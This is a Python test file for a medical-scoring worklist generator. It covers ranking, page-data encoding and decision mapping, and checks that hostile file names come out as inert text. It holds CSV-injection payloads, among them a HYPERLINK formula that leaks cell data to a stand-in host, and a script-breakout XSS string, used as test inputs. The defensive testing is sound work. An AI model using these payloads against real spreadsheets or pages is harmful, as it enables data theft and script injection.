"""The worklist: ranked by calibrated risk (the probability where the scores have none), ties by
the log-odds; its page data (compact columnar JSON, decoded back to the rows), the decisions and
store records it carries; and the CSV never carries a spreadsheet formula: file and folder names
chosen by whoever writes to the archive (`=HYPERLINK(...)` and the other OWASP CSV-injection starts)
are written as text, through the writer on real rows and end to end through a real scoring run."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pyarrow as pa

from data_contracts.schemas import SCORES, SITE_FIELD
from msaic_model.model.config import load_config
from msaic_model.model.net import build_model
from tasks import store as st
from tasks.ingest.run import ingest_archive
from tasks.review.worklist import (
    decisions_by_row,
    json_for_script,
    page_data,
    render_page,
    worklist,
    write_worklist,
)
from tasks.scoring.run import score_archive_run
from tasks.settings import Settings
from tests.flows.scoring_setup import TINY_CONFIG
from tests.helpers import copy_ludb
from tests.msaic_model.training.test_model_validation import register_model

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open").hea',
    "+SUM(1,2).hea",
    "-2+3.hea",
    "@SUM(A1:A9).hea",
    "\t=1+1.hea",
    "\r=1+1.hea",
]


def score_rows(
    paths: list[str],
    site: str = "a",
    flagged: bool = True,
    probability: list[float] | None = None,
    logit: list[float | None] | None = None,
    risk: list[float | None] | None = None,
    device: str | None = None,
) -> pa.Table:
    """Real OUT/scores rows (with the `site` column `stage_parts` partitions on), one window each."""
    n = len(paths)
    probability = probability or [0.9 - 0.01 * i for i in range(n)]
    rows = {
        "record_id": [f"r{i}" for i in range(n)],
        "source_path": paths,
        "window": [0] * n,
        "content_sha256": ["0" * 64] * n,
        "recorded_date": ["2019-03-01"] * n,
        "recorded_at": ["2019-03-01T10:22:05"] * n,
        "device": [device] * n,
        "verdict": ["pass"] * n,
        "quality_reasons": [[] for _ in paths],
        "flagged_leads": [[] for _ in paths],
        "probability": probability,
        "logit": logit or [None] * n,
        "risk": risk or [None] * n,
        "risk_band": [None if r is None else ("high" if r > 0.5 else "low") for r in risk or [None] * n],
        "flagged": [flagged] * n,
        "threshold": [0.5] * n,
        "model_id": ["m"] * n,
        "model_version": ["net msaic 1"] * n,
        "territory": ["inferior"] * n,
        "top_leads": [["III", "aVF"] for _ in paths],
        "explanation": ["consistent with an inferior territory (leads III, aVF)"] * n,
        "unscored_reason": [None] * n,
        "qc_version": ["qc/1"] * n,
        "score_version": ["score/4"] * n,
        "scored_at": [datetime.now(UTC)] * n,
        "site": [site] * n,
    }
    return pa.Table.from_pydict(rows, schema=SCORES.append(SITE_FIELD))


def commit_scores(out: Path, table: pa.Table) -> list[Path]:
    """Publish rows to OUT/scores as a run does; returns the part files written."""
    moves = st.stage_parts(out, "scores", table)
    st.Commit(moves=moves).publish(out)
    return [final for _, final in moves]


def page_json(page: str) -> dict:
    """The data a worklist page embeds."""
    return json.loads(page.split('<script id="data" type="application/json">')[1].split("</script>")[0])


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_formula_like_cells_are_written_as_text(tmp_path: Path) -> None:
    out = tmp_path / "out"
    commit_scores(out, score_rows([*HOSTILE, "plain/record.hea"]))
    csv_path, html_path, n = write_worklist(out)
    assert n == len(HOSTILE) + 1
    rows = _read_csv(csv_path)
    assert len(rows) == n  # a CR inside a cell is quoted, not a new row
    by_path = {row["source_path"].removeprefix("'"): row for row in rows}
    for path in HOSTILE:
        assert by_path[path]["source_path"] == "'" + path  # what a spreadsheet shows as text
    assert by_path["plain/record.hea"]["source_path"] == "plain/record.hea"
    assert all(row["rank"].isdigit() and not row["probability"].startswith("'") for row in rows)
    # the page carries the paths as JSON data (its script escapes them when it writes the rows)
    assert sorted(page_json(html_path.read_text())["columns"]["source_path"]) == sorted(
        [*HOSTILE, "plain/record.hea"]
    )


def test_a_hostile_folder_name_scored_end_to_end_is_text_in_the_worklist(tmp_path: Path) -> None:
    """A real LUDB record in a folder named `=HYPERLINK(...)` (its site too, by the folder rule),
    scored by a registered tiny network whose threshold flags everything scored."""
    folder = tmp_path / "archive" / '=HYPERLINK("http:evil.example","open")'
    folder.mkdir(parents=True)
    copy_ludb(folder, [1])
    config = load_config(TINY_CONFIG)
    model = register_model(
        tmp_path / "models-store",
        "tiny",
        {"kind": "net", "model": config.model_dump(mode="json")},
        build_model(config).state_dict(),
        threshold=1e-6,
    )
    out = tmp_path / "out"
    totals = score_archive_run(tmp_path / "archive", model, out, Settings(workers=1))
    assert totals.counts["flagged"] == 1
    csv_path, _, n = write_worklist(out)
    [row] = _read_csv(csv_path)
    assert n == 1
    assert row["source_path"] == "'" + f"{folder.name}/1.hea"
    assert row["site"] == "'" + folder.name


def test_ranked_by_calibrated_risk_with_ties_broken_by_the_log_odds(tmp_path: Path) -> None:
    out = tmp_path / "out"
    paths = ["s/a.hea", "s/b.hea", "s/c.hea", "s/d.hea"]
    # b and c share a calibrated risk (and a probability reading 1.000): the log-odds rank them
    commit_scores(
        out,
        score_rows(
            paths, probability=[0.97, 1.0, 1.0, 0.5], logit=[3.5, 9.1, 12.4, 0.0], risk=[0.9, 0.99, 0.99, 0.4]
        ),
    )
    df = worklist(out)
    assert df["source_path"].tolist() == ["s/c.hea", "s/b.hea", "s/a.hea", "s/d.hea"]
    assert df["rank"].tolist() == [1, 2, 3, 4]
    data = page_data(df, out, {})
    assert data["score"] == "risk" and data["columns"]["risk"] == [0.99, 0.99, 0.9, 0.4]
    assert data["columns"]["logit"] == [12.4, 9.1, 3.5, 0.0]


def test_without_calibrated_risk_the_probability_ranks(tmp_path: Path) -> None:
    out = tmp_path / "out"
    commit_scores(
        out, score_rows(["s/a.hea", "s/b.hea", "s/c.hea"], probability=[0.6, 0.9, 0.9], logit=[0.4, 2.2, 2.3])
    )
    df = worklist(out)
    assert df["source_path"].tolist() == ["s/c.hea", "s/b.hea", "s/a.hea"]
    data = page_data(df, out, {})
    assert data["score"] == "probability" and data["columns"]["risk"] == [None, None, None]


def test_one_row_per_source_record_its_best_window(tmp_path: Path) -> None:
    out = tmp_path / "out"
    table = score_rows(["s/a.hea", "s/a.hea", "s/b.hea"], probability=[0.7, 0.8, 0.75])
    table = table.set_column(
        table.schema.get_field_index("window"), "window", pa.array([0, 1, 0], pa.int32())
    )
    commit_scores(out, table)
    df = worklist(out)
    assert list(zip(df["source_path"], df["window"], strict=True)) == [("s/a.hea", 1), ("s/b.hea", 0)]


def test_page_data_decodes_back_to_the_rows(tmp_path: Path) -> None:
    out = tmp_path / "out"
    commit_scores(out, score_rows(["n/1.hea", "n/2.hea"], site="north", risk=[0.8, 0.3], device="MAC 5500"))
    commit_scores(out, score_rows(["s/1.hea"], site="south", probability=[0.95], risk=[0.6]))
    df = worklist(out)
    data = json.loads(json_for_script(page_data(df, out, {"r0": ["mi", "inferior"]})))
    cols, dicts = data["columns"], data["dicts"]
    assert data["n"] == 3 and data["model_id"] == "m"
    for k, row in df.iterrows():
        assert dicts["site"][cols["site"][k]] == row["site"]
        assert dicts["risk_band"][cols["risk_band"][k]] == row["risk_band"]
        assert dicts["top_leads"][cols["top_leads"][k]] == "III; aVF"
        assert cols["source_path"][k] == row["source_path"] and cols["record_id"][k] == row["record_id"]
        assert cols["flagged_leads"][k] == -1  # none: no code
        assert (dicts["device"][cols["device"][k]] if cols["device"][k] >= 0 else None) == row["device"]
    assert df["device"].tolist() == ["MAC 5500", None, "MAC 5500"]  # the scores' device, by risk
    assert len(dicts["site"]) == 2  # repeated text travels once
    assert data["decisions"] == {"r0": ["mi", "inferior"]}
    assert "anterior" in data["territories"] and data["decision_names"] == ["mi", "not_mi", "unreadable"]


def test_the_embedded_data_cannot_close_its_script(tmp_path: Path) -> None:
    out = tmp_path / "out"
    hostile = "a/</script><script>alert(1)</script><!--.hea"
    commit_scores(out, score_rows([hostile]))
    page = render_page(page_data(worklist(out), out, {}))
    assert page.count("</script>") == 2 and "<!--" not in page  # the data's and the code's own
    assert page_json(page)["columns"]["source_path"] == [hostile]


def test_decisions_follow_the_store_record_ids(tmp_path: Path) -> None:
    """Two real LUDB records ingested into a store: the worklist rows gain the store's record ids,
    and an adjudication under a store id is shown on the worklist row of that record."""
    archive = tmp_path / "archive" / "ward"
    copy_ludb(archive, (1, 2))
    store = tmp_path / "store"
    ingest_archive(archive.parent, store, Settings(workers=1))
    out = tmp_path / "out"
    commit_scores(out, score_rows(["ward/1.hea", "ward/2.hea", "ward/9.hea"], site="ward"))
    df = worklist(out, store)
    records = st.read_table(store, "records", columns=["source_path", "record_id"]).to_pandas()
    by_path = dict(zip(records["source_path"], records["record_id"], strict=True))
    assert df["store_record_id"].tolist() == [by_path["ward/1.hea"], by_path["ward/2.hea"], None]
    assert df["store_record_id"].tolist()[0] != df["record_id"].tolist()[0]  # another key: another id
    latest = pd.DataFrame(
        {
            "record_id": [by_path["ward/2.hea"], "r2", "unknown"],
            "decision": ["not_mi", "unreadable", "mi"],
            "territory": [None, None, None],
        }
    )
    assert decisions_by_row(df, latest) == {"r1": ["not_mi", None], "r2": ["unreadable", None]}


def test_nothing_flagged_is_an_empty_worklist_and_page(tmp_path: Path) -> None:
    out = tmp_path / "out"
    commit_scores(out, score_rows(["s/a.hea"], flagged=False))
    csv_path, html_path, n = write_worklist(out)
    assert n == 0 and _read_csv(csv_path) == []
    data = page_json(html_path.read_text())
    assert data["n"] == 0 and data["columns"]["record_id"] == [] and data["model_id"] is None
